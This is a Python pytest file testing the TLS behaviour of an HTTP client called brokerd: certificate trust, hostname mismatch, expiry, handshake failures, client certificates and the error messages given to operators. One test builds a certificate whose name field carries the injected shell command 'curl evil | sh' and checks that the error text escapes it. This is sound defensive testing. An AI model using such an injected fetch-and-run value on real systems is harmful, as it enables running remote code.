# TLS: which servers are trusted, the errors for operators about the others, and our own certificate.
from __future__ import annotations

import contextlib
import datetime
import shutil
import socket
import ssl
import threading
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import trio
import trustme
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec
from trio.testing import MockClock

from brokerd.core.ports import TransportError
from brokerd.edge.http import tls
from brokerd.edge.http.client import HttpSettings, check
from tests.unit.edge.http.fixtures import CA, SECRET, StepClock, ca_file, client, failure, get, post, server_tls
from tests.unit.edge.http.servers import OK, Peer, always_ok, serving


async def test_a_server_with_a_certificate_of_the_named_authority_is_believed(tmp_path: Path) -> None:
    async with serving(always_ok, tls=server_tls("127.0.0.1")) as server, client(ca_file=ca_file(tmp_path)) as http:
        for _ in range(3):
            assert (await http.send(get(server.url))).body == b"ok"
        assert len(server.peers) == 1
        stream = server.peers[0].stream
        assert isinstance(stream, trio.SSLStream)
        assert stream.version() == "TLSv1.3"


async def test_host_names_and_addresses_are_checked_alike(tmp_path: Path) -> None:
    async with client(ca_file=ca_file(tmp_path)) as http:
        async with serving(always_ok, tls=server_tls("localhost")) as server:
            assert (await http.send(get(f"https://localhost:{server.port}"))).status == 200
            error = await failure(http, get(f"https://127.0.0.1:{server.port}"))
            assert error.reason.endswith(": the certificate is for localhost, not 127.0.0.1")
        async with serving(always_ok, tls=server_tls("::1"), host="::1") as server:
            assert (await http.send(get(server.url))).status == 200


async def test_the_systems_roots_are_used_where_no_file_is_named(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("SSL_CERT_FILE", str(ca_file(tmp_path)))
    async with serving(always_ok, tls=server_tls("127.0.0.1")) as server, client() as http:
        assert (await http.send(get(server.url))).status == 200


async def test_a_named_authority_stands_alone(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("SSL_CERT_FILE", str(ca_file(tmp_path)))
    (tmp_path / "other").mkdir()
    other = ca_file(tmp_path / "other", trustme.CA())
    async with serving(always_ok, tls=server_tls("127.0.0.1")) as server, client(ca_file=other) as http:
        assert "unknown authority" in (await failure(http, get(server.url))).reason


async def test_an_intermediate_authority_may_be_named(tmp_path: Path) -> None:
    child = trustme.CA().create_child_ca()
    async with (
        serving(always_ok, tls=server_tls("127.0.0.1", ca=child)) as server,
        client(ca_file=ca_file(tmp_path, child)) as http,
    ):
        assert (await http.send(get(server.url))).status == 200


@pytest.mark.parametrize(
    ("context", "reason"),
    [
        (lambda: server_tls("127.0.0.1", ca=trustme.CA()), "signed by an unknown authority; name it with ca_file"),
        (lambda: server_tls("127.0.0.1", expired=True), "the certificate expired on 20"),
        (lambda: server_tls("127.0.0.1", early=True), "the certificate is not valid before 20"),
        (lambda: server_tls("a.example", "b.example"), "the certificate is for a.example, b.example, not 127.0.0.1"),
        (
            lambda: server_tls("10.0.0.1", *(f"{x}.example" for x in "abc")),
            "the certificate is for a.example, b.example, c.example, …, not 127.0.0.1",
        ),
    ],
    ids=["unknown authority", "expired", "early", "other host", "other hosts"],
)
async def test_a_certificate_that_is_not_believed_is_described(context: object, reason: str, tmp_path: Path) -> None:
    assert callable(context)
    async with serving(always_ok, tls=context()) as server, client(ca_file=ca_file(tmp_path)) as http:
        error = await failure(http, post(server.url, sends_stored=True))
        assert not error.sent
        assert error.reason.startswith(f"{server.authority}: ")
        assert reason in error.reason
        assert server.requests == []
        await server.until(lambda: len(server.ended) == len(server.peers))


async def test_a_certificate_that_cannot_be_looked_at_again_is_described_all_the_same(tmp_path: Path) -> None:
    context = server_tls("127.0.0.1", expired=True)

    async def once(peer: Peer) -> None:
        if peer.number:
            peer.reset()
        await peer.hears_the_end()

    async with serving(once, tls=context) as server, client(ca_file=ca_file(tmp_path)) as http:
        error = await failure(http, get(server.url))
        assert error.reason.endswith(": a certificate of the chain has expired")


def test_hostile_certificates_are_cut_and_escaped() -> None:
    names = [f"{'x' * 60}.{'y' * 60}.example", "a.example"]
    pem = CA.issue_cert(*names).cert_chain_pems[0].bytes().decode()
    error = tls.UntrustedError(62, "Hostname mismatch")
    reason = tls.untrusted_reason(error, "idp.example", ssl.PEM_cert_to_DER_cert(pem), 0)
    assert len(reason) < 200
    key = ec.generate_private_key(ec.SECP256R1())
    subject, now = x509.Name([]), datetime.datetime.now(datetime.UTC)
    made = x509.CertificateBuilder(subject, subject, key.public_key(), 1, now, now + datetime.timedelta(days=1))
    odd = made.add_extension(x509.SubjectAlternativeName([x509.DNSName("x; curl evil | sh")]), critical=False)
    der = odd.sign(key, hashes.SHA256()).public_bytes(serialization.Encoding.DER)
    assert ";" not in tls.untrusted_reason(error, "idp.example", der, 0), "a remedy would follow it"
    assert tls.untrusted_reason(error, "idp.example", b"\x30rubbish", 0) == "the certificate is for another host"
    assert "\n" not in tls.untrusted_reason(tls.UntrustedError(99, "odd"), "idp.example", None, 0)


async def test_a_plain_http_port_is_recognised(tmp_path: Path) -> None:
    async def script(peer: Peer) -> None:
        await peer.raw.receive_some()
        await peer.say(b"HTTP/1.1 400 Bad Request\r\nContent-Length: 0\r\n\r\n")

    async with serving(script) as server, client(ca_file=ca_file(tmp_path)) as http:
        error = await failure(http, get(f"https://127.0.0.1:{server.port}/?key={SECRET}"))
        assert not error.sent
        assert error.reason.endswith("TLS handshake: it does not speak TLS; is this a port for http://?")


@pytest.mark.parametrize(
    "answer", [b"", b"\x00", b"\x16\x03\x03\x40\x00" + b"\x00" * 64, b"\x15\x03\x03\x00\x02\x02\x28"]
)
async def test_a_broken_handshake_is_an_error_before_anything_is_sent(answer: bytes, tmp_path: Path) -> None:
    async def script(peer: Peer) -> None:
        await peer.raw.receive_some()
        await peer.say(answer)

    async with serving(script) as server, client(ca_file=ca_file(tmp_path)) as http:
        error = await failure(http, get(f"https://127.0.0.1:{server.port}/"))
        assert not error.sent
        assert error.reason.startswith(f"{server.authority}: TLS handshake: ")


async def test_old_versions_of_tls_are_refused(tmp_path: Path) -> None:
    context = server_tls("127.0.0.1")
    context.set_ciphers("ALL:@SECLEVEL=0")
    with pytest.warns(DeprecationWarning, match="TLSv1"):
        context.minimum_version, context.maximum_version = ssl.TLSVersion.TLSv1, ssl.TLSVersion.TLSv1_1
    with alerting(context) as url:
        async with client(ca_file=ca_file(tmp_path)) as http:
            assert (await failure(http, get(url))).reason.endswith("it speaks nothing newer than TLS 1.1")


async def test_a_silent_handshake_meets_the_connect_timeout(tmp_path: Path) -> None:
    async with (
        serving(Peer.hears_the_end) as server,
        client(ca_file=ca_file(tmp_path), connect_timeout=0.2) as http,
    ):
        error = await failure(http, get(f"https://127.0.0.1:{server.port}/"))
        assert not error.sent
        assert error.reason.endswith(": timed out after 0.2 s in the TLS handshake")
        await server.until(lambda: server.ended == [0])


# The end of an answer


async def test_a_body_without_a_length_needs_a_tls_goodbye(tmp_path: Path) -> None:
    """Anybody on the way can cut a connection; only close_notify is the server's own (RFC 9112 section 9.8)."""

    async def script(peer: Peer) -> None:
        await peer.request()
        await peer.say(b"HTTP/1.1 200 OK\r\n\r\nuntil the end")
        if peer.number:
            await peer.raw.aclose()

    async with serving(script, tls=server_tls("127.0.0.1")) as server, client(ca_file=ca_file(tmp_path)) as http:
        assert (await http.send(get(server.url))).body == b"until the end"
        error = await failure(http, get(server.url))
        assert error.reason.endswith("connection closed in the middle of the answer")


def test_whatever_the_version_of_python_an_end_without_a_goodbye_is_none() -> None:
    assert not tls.build(tls.TlsFiles()).options & ssl.OP_IGNORE_UNEXPECTED_EOF


async def test_a_body_with_a_length_needs_none(tmp_path: Path) -> None:
    async def script(peer: Peer) -> None:
        await peer.request()
        await peer.say(OK)
        await peer.raw.aclose()

    async with serving(script, tls=server_tls("127.0.0.1")) as server, client(ca_file=ca_file(tmp_path)) as http:
        for _ in range(2):
            assert (await http.send(get(server.url))).body == b"ok"
            await server.until(lambda: len(server.ended) == len(server.peers))


async def test_a_kept_connection_that_has_ended_is_noticed_however_slow_the_machine_is(
    tmp_path: Path, mock_clock: MockClock
) -> None:
    """A second of the client's passes within a microsecond, as on a machine where others are always first."""

    async def script(peer: Peer) -> None:
        await peer.request()
        await peer.say(OK)
        await peer.raw.aclose()

    mock_clock.rate = 1e6
    ages = dict.fromkeys(("connect_timeout", "read_timeout", "total_timeout"), 1e12)
    settings = {"ca_file": ca_file(tmp_path), **ages}
    async with serving(script, tls=server_tls("127.0.0.1")) as server, client(within=1e12, **settings) as http:
        for number in range(1, 4):
            assert (await http.send(get(server.url))).body == b"ok"
            while len(server.ended) < number:
                await server.moved.wait()
        assert len(server.peers) == 3


@pytest.mark.parametrize("records", [1, 2])
async def test_a_second_answer_behind_the_first_is_not_taken_for_the_next(records: int, tmp_path: Path) -> None:
    """Two records in one packet: the second waits unseen in the TLS layer while the connection is kept."""
    stray = OK.replace(b"ok", b"no")

    async def script(peer: Peer) -> None:
        assert isinstance(peer.stream, trio.SSLStream)
        await peer.request()
        held = HeldBack(peer.raw)
        peer.stream.transport_stream = held
        for part in [OK, stray] if records == 2 else [OK + stray]:
            await peer.say(part)
        await peer.raw.send_all(held.data)
        peer.stream.transport_stream = peer.raw
        await peer.hears_the_end()

    async with serving(script, tls=server_tls("127.0.0.1")) as server, client(ca_file=ca_file(tmp_path)) as http:
        for _ in range(2):
            assert (await http.send(get(server.url))).body == b"ok"
        assert len(server.peers) == 2


class HeldBack(trio.abc.SendStream):
    """Collects what should be sent."""

    def __init__(self, raw: trio.SocketStream) -> None:
        self.data = b""

    async def send_all(self, data: bytes | bytearray | memoryview) -> None:
        self.data += data

    async def wait_send_all_might_not_block(self) -> None: ...

    async def aclose(self) -> None: ...


# Our own certificate


@contextlib.contextmanager
def alerting(context: ssl.SSLContext) -> Iterator[str]:
    """The URL of a server on blocking sockets, for one connection: trio's sends no alerts when it refuses."""
    with socket.create_server(("127.0.0.1", 0)) as listener:

        def serve() -> None:
            raw, _ = listener.accept()
            with context.wrap_socket(raw, server_side=True, do_handshake_on_connect=False) as secured:
                with contextlib.suppress(ssl.SSLError):
                    secured.do_handshake()
                secured.shutdown(socket.SHUT_WR)  # and read on without TLS: closing at once would overtake the alert
                while secured.recv(4096):
                    pass

        thread = threading.Thread(target=serve)
        thread.start()
        yield f"https://127.0.0.1:{listener.getsockname()[1]}/"
        thread.join()


def wanting_certificates(version: ssl.TLSVersion) -> ssl.SSLContext:
    context = server_tls("127.0.0.1")
    context.verify_mode = ssl.CERT_REQUIRED
    context.maximum_version = version
    CA.configure_trust(context)
    return context


def own_certificate(directory: Path, ca: trustme.CA = CA) -> dict[str, Any]:
    certificate = ca.issue_cert("client.example")
    paths = {"cert_file": directory / "client.pem", "key_file": directory / "client.key"}
    certificate.cert_chain_pems[0].write_to_path(str(paths["cert_file"]))
    certificate.private_key_pem.write_to_path(str(paths["key_file"]))
    return paths


@pytest.mark.parametrize("version", [ssl.TLSVersion.TLSv1_2, ssl.TLSVersion.TLSv1_3])
async def test_a_client_certificate_is_shown_to_whoever_wants_it(version: ssl.TLSVersion, tmp_path: Path) -> None:
    async with serving(always_ok, tls=wanting_certificates(version)) as server:
        async with client(ca_file=ca_file(tmp_path), **own_certificate(tmp_path)) as http:
            assert (await http.send(get(server.url))).status == 200
        stream = server.peers[0].stream
        assert isinstance(stream, trio.SSLStream)
        assert ("DNS", "client.example") in stream.getpeercert()["subjectAltName"]


async def test_a_missing_client_certificate_is_named(tmp_path: Path) -> None:
    async with client(ca_file=ca_file(tmp_path)) as http:
        with alerting(wanting_certificates(ssl.TLSVersion.TLSv1_3)) as url:
            error = await failure(http, get(url))
            assert error.sent  # with TLS 1.3 the client is done before the server has looked
            assert "the server wants a client certificate; name one with cert_file" in error.reason
        with alerting(wanting_certificates(ssl.TLSVersion.TLSv1_2)) as url:
            error = await failure(http, get(url))
            assert not error.sent
            assert "wants a certificate (cert_file)" in error.reason


async def test_a_client_certificate_of_an_authority_the_server_does_not_know_is_named(tmp_path: Path) -> None:
    files = own_certificate(tmp_path, trustme.CA())
    with alerting(wanting_certificates(ssl.TLSVersion.TLSv1_2)) as url:
        async with client(ca_file=ca_file(tmp_path), **files) as http:
            assert "does not know the authority of our client" in (await failure(http, get(url))).reason


async def test_a_renewed_client_certificate_is_used_without_a_restart(tmp_path: Path) -> None:
    shown = []

    async def script(peer: Peer) -> None:
        assert isinstance(peer.stream, trio.SSLStream)
        await peer.request()
        shown.append(peer.stream.getpeercert(binary_form=True))
        await peer.say(OK)

    async with (
        serving(script, tls=wanting_certificates(ssl.TLSVersion.TLSv1_3)) as server,
        client(ca_file=ca_file(tmp_path), **own_certificate(tmp_path)) as http,
    ):
        await http.send(post(server.url, sends_stored=True))
        await http.send(post(server.url, sends_stored=True))
        own_certificate(tmp_path)
        await http.send(post(server.url, sends_stored=True))
    assert shown[0] == shown[1]
    assert shown[1] != shown[2]


# Files that cannot be used


async def test_files_that_cannot_be_used_are_named(tmp_path: Path) -> None:
    good = own_certificate(tmp_path)
    (tmp_path / "second").mkdir()
    second = own_certificate(tmp_path / "second")
    rubbish = tmp_path / "rubbish.pem"
    rubbish.write_text("rubbish")
    encrypted = tmp_path / "encrypted.key"
    key = serialization.load_pem_private_key(good["key_file"].read_bytes(), None)
    encrypted.write_bytes(
        key.private_bytes(
            serialization.Encoding.PEM,
            serialization.PrivateFormat.PKCS8,
            serialization.BestAvailableEncryption(b"passphrase"),
        )
    )
    missing = tmp_path / "missing.pem"
    cert, other_key = good["cert_file"], second["key_file"]
    for settings, reason in [
        (HttpSettings(ca_file=missing), f"ca_file {missing}: no such file or directory"),
        (HttpSettings(ca_file=rubbish), f"ca_file {rubbish}: holds no certificate in PEM form"),
        (HttpSettings(key_file=other_key), "key_file needs cert_file as well"),
        (HttpSettings(cert_file=missing, key_file=other_key), f"cert_file {missing}: no such file or directory"),
        (HttpSettings(cert_file=cert, key_file=missing), f"key_file {missing}: no such file or directory"),
        (
            HttpSettings(cert_file=cert, key_file=other_key),
            f"cert_file {cert} and {other_key}: the key does not belong to the certificate",
        ),
        (
            HttpSettings(cert_file=cert, key_file=encrypted),
            f"key_file {encrypted}: the key is encrypted; brokerd needs it without a passphrase",
        ),
        (
            HttpSettings(cert_file=cert),
            f"cert_file {cert} (certificate and key): are not a certificate and its key in PEM form",
        ),
        (HttpSettings(cert_file=tmp_path, key_file=other_key), f"cert_file {tmp_path}: is a directory"),
    ]:
        with pytest.raises(TransportError) as caught:
            check(settings, {})
        assert caught.value.reason == reason
        assert not caught.value.sent
    check(HttpSettings(**good), {})

    async with serving(always_ok, tls=server_tls("127.0.0.1")) as server, client(ca_file=missing) as http:
        assert (await failure(http, get(server.url))).reason.startswith(f"ca_file {missing}")
        assert server.peers == []
        shutil.copy(ca_file(tmp_path), missing)
        assert (await http.send(get(server.url))).status == 200


async def test_a_clock_is_all_that_a_client_reads_the_time_from(tmp_path: Path) -> None:
    """A leaf that is alive by our clock was not what expired: then it is its chain."""
    clock = StepClock()
    clock.advance(-600_000_000)
    context = server_tls("127.0.0.1", expired=True)
    async with serving(always_ok, tls=context) as server, client(clock=clock, ca_file=ca_file(tmp_path)) as http:
        assert (await failure(http, get(server.url))).reason.endswith("a certificate of the chain has expired")
